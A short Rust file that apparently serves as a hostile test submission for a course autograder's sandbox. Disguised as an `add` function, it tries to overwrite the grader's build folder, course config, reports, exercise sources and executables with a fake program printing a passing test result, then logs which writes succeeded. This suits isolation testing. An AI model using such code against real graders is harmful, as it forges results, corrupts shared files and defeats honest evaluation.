// Forges what the grader reads: the course's shared build folder, the reports' folder, and in its
// own sandbox the sources and executables still to be built and run (`../target`,
// `../exercises`: a program runs in the sandbox's private `.run` folder under `uid` isolation),
// then reports what each write did. The line "ATTACK-RAN" proves the attack ran.
fn add(a: i32, b: i32) -> i32 {
    let _ = (a, b);
    let forged = "fn main() { println!(\"test result: ok. 1 passed\"); }";
    let mut targets: Vec<String> = vec![
        "@COURSE@/target/backendlings/grade-build/FORGED".into(),
        "@COURSE@/info.toml".into(),
        "@WORK@/reports/r.json".into(),
        "../exercises/basics/greet.rs".into(),
        "../.build/FORGED".into(),
    ];
    if let Ok(entries) = std::fs::read_dir("../target/pkg/bin") {
        targets.extend(entries.flatten().map(|e| e.path().display().to_string()));
    }
    targets.push("../target/pkg/bin/FORGED".into());
    for path in targets {
        let outcome = match std::fs::write(&path, forged) {
            Ok(()) => "WRITTEN".to_string(),
            Err(err) => format!("refused ({:?})", err.kind()),
        };
        println!("ATTACK-RAN write {path}: {outcome}");
    }
    0
}

fn main() {}
